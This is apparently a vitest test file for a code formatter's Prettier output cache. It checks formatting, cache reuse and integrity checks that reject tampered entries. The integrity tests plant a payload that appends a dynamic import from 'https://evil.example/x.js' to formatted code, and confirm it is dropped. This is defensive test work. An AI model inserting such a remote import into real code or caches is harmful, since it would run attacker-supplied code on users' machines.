import { chmodSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it, vi } from "vitest";
import { FormatCache } from "../src/format-cache.js";
import { formatFiles } from "../src/format.js";
import { temporaryFolders } from "./temp-folders.js";

/** The texts prettier was asked to format, counted through the real formatter. */
const prettierJobs = vi.hoisted(() => ({ count: 0 }));
vi.mock("../src/format-pool.js", async (importOriginal) => {
  const actual = await importOriginal<typeof import("../src/format-pool.js")>();
  return {
    ...actual,
    formatInParallel: ((jobs, style) => {
      prettierJobs.count += jobs.length;
      return actual.formatInParallel(jobs, style);
    }) satisfies typeof actual.formatInParallel,
  };
});

const tempDir = temporaryFolders("format");

/** A project: a package.json and a node_modules folder, as after `npm install`. */
function project(parent?: string): string {
  const dir = parent ? path.join(parent, "project") : tempDir();
  mkdirSync(path.join(dir, "node_modules"), { recursive: true });
  writeFileSync(path.join(dir, "package.json"), "{}\n");
  return dir;
}

const cacheDir = (dir: string) => path.join(dir, "node_modules", ".cache", "shapekit", "format");
const entries = (dir: string) => readdirSync(cacheDir(dir)).filter((n) => /^[0-9a-f]{64}$/.test(n));

const files = (dir: string) => [
  {
    absolutePath: path.join(dir, "out", "a.ts"),
    file: { path: "a.ts", contents: "export const  a = {x:1}" },
  },
  {
    absolutePath: path.join(dir, "out", "b.json"),
    file: { path: "b.json", contents: '{"a":[1,2]}' },
  },
  {
    absolutePath: path.join(dir, "out", "c.txt"),
    file: { path: "c.txt", contents: "kept   as is" },
  },
];
const A_FORMATTED = "export const a = { x: 1 };\n";
const PLANTED = 'export const a = { x: 1 };\nimport("https://evil.example/x.js");\n';

/** Overwrites every cache entry with the planted text, in the entry format or as plain text. */
function plantEverywhere(dir: string, asEntry: boolean): void {
  for (const name of entries(dir))
    writeFileSync(
      path.join(cacheDir(dir), name),
      asEntry ? `${"0".repeat(64)}\n${PLANTED}` : PLANTED,
    );
}

describe("formatFiles", () => {
  it("formats with ShapeKit's fixed style; unknown kinds pass through", async () => {
    const dir = project();
    const out = await formatFiles(files(dir), { projectDir: dir });
    expect(out.get(path.join(dir, "out", "a.ts"))).toBe(A_FORMATTED);
    expect(out.get(path.join(dir, "out", "b.json"))).toBe('{ "a": [1, 2] }\n');
    expect(out.get(path.join(dir, "out", "c.txt"))).toBe("kept   as is");
  });

  it("a second run is served from the cache with identical bytes", async () => {
    const dir = project();
    prettierJobs.count = 0;
    const first = await formatFiles(files(dir), { projectDir: dir });
    expect(prettierJobs.count).toBe(2);
    expect(entries(dir)).toHaveLength(2);
    const notices: string[] = [];
    const second = await formatFiles(files(dir), {
      projectDir: path.join(dir, "spec"),
      onNotice: (n) => notices.push(n),
    });
    // Prettier was not asked again: both texts were read from the cache.
    expect(prettierJobs.count).toBe(2);
    expect([...second]).toEqual([...first]);
    expect(notices).toEqual([]);
  });

  it("tells onPrettier each file prettier formats, and not those laid out or cached", async () => {
    const dir = project();
    const laidOut = {
      absolutePath: path.join(dir, "out", "d.ts"),
      file: { path: "d.ts", contents: "export const d = 1;\n", preformatted: true },
    };
    const seen: Array<[string, number]> = [];
    const onPrettier = (file: string, characters: number) => seen.push([file, characters]);
    await formatFiles([...files(dir), laidOut], { projectDir: dir, onPrettier });
    expect(seen).toEqual([
      [path.join(dir, "out", "a.ts"), "export const  a = {x:1}".length],
      [path.join(dir, "out", "b.json"), '{"a":[1,2]}'.length],
    ]);
    seen.length = 0;
    await formatFiles(files(dir), { projectDir: dir, onPrettier });
    expect(seen).toEqual([]);
  });

  it("a file prettier cannot parse is named in the error", async () => {
    const dir = project();
    await expect(
      formatFiles(
        [
          {
            absolutePath: path.join(dir, "bad.ts"),
            file: { path: "bad.ts", contents: "export const = ;" },
          },
        ],
        { projectDir: dir },
      ),
    ).rejects.toThrow(/bad\.ts is not valid ts/);
  });
});

describe("format cache integrity", () => {
  for (const asEntry of [true, false]) {
    it(`a planted or corrupt entry (${asEntry ? "forged HMAC" : "plain text"}) never reaches the output: dropped and recomputed`, async () => {
      const dir = project();
      await formatFiles(files(dir), { projectDir: dir });
      plantEverywhere(dir, asEntry);
      const notices: string[] = [];
      const out = await formatFiles(files(dir), {
        projectDir: dir,
        onNotice: (n) => notices.push(n),
      });
      expect(out.get(path.join(dir, "out", "a.ts"))).toBe(A_FORMATTED);
      expect(notices).toEqual([
        "2 format cache entries failed the integrity check; formatted again.",
      ]);
      // Replaced by good entries: the next run is served from the cache again, silently.
      const again: string[] = [];
      await formatFiles(files(dir), { projectDir: dir, onNotice: (n) => again.push(n) });
      expect(again).toEqual([]);
      for (const name of entries(dir))
        expect(readFileSync(path.join(cacheDir(dir), name), "utf8")).not.toContain("evil");
    });
  }

  it("an entry copied from another project (another key) does not verify", async () => {
    const a = project();
    const b = project();
    await formatFiles(files(a), { projectDir: a });
    await formatFiles(files(b), { projectDir: b });
    for (const name of entries(a))
      writeFileSync(
        path.join(cacheDir(b), name),
        readFileSync(path.join(cacheDir(a), name), "utf8").replace(A_FORMATTED, PLANTED),
      );
    const notices: string[] = [];
    const out = await formatFiles(files(b), { projectDir: b, onNotice: (n) => notices.push(n) });
    expect(out.get(path.join(b, "out", "a.ts"))).toBe(A_FORMATTED);
    expect(notices).toHaveLength(1);
  });

  it("only the project's own cache is used, never a node_modules/.cache above the project", async () => {
    const outer = project();
    await formatFiles(files(outer), { projectDir: outer });
    plantEverywhere(outer, true);
    const planted = entries(outer).map((n) => readFileSync(path.join(cacheDir(outer), n), "utf8"));
    // A project inside it without node_modules of its own: no cache at all.
    const inner = path.join(outer, "inner");
    mkdirSync(inner);
    writeFileSync(path.join(inner, "package.json"), "{}\n");
    expect(FormatCache.locate(inner)).toBeUndefined();
    const out = await formatFiles(files(outer), { projectDir: inner });
    expect(out.get(path.join(outer, "out", "a.ts"))).toBe(A_FORMATTED);
    expect(entries(outer).map((n) => readFileSync(path.join(cacheDir(outer), n), "utf8"))).toEqual(
      planted,
    );
    // With node_modules of its own: its own cache.
    expect(FormatCache.locate(project(outer))).toBe(cacheDir(path.join(outer, "project")));
  });

  it("a key file others can read disables the cache; a folder without a key is emptied first", async () => {
    const dir = project();
    mkdirSync(cacheDir(dir), { recursive: true });
    writeFileSync(path.join(cacheDir(dir), "a".repeat(64)), PLANTED);
    await formatFiles(files(dir), { projectDir: dir });
    expect(entries(dir)).toHaveLength(2);
    expect(readdirSync(cacheDir(dir))).not.toContain("a".repeat(64));
    chmodSync(path.join(cacheDir(dir), ".key"), 0o644);
    expect(FormatCache.open(dir, "salt")).toBeUndefined();
    chmodSync(path.join(cacheDir(dir), ".key"), 0o600);
    expect(FormatCache.open(dir, "salt")).toBeInstanceOf(FormatCache);
  });
});
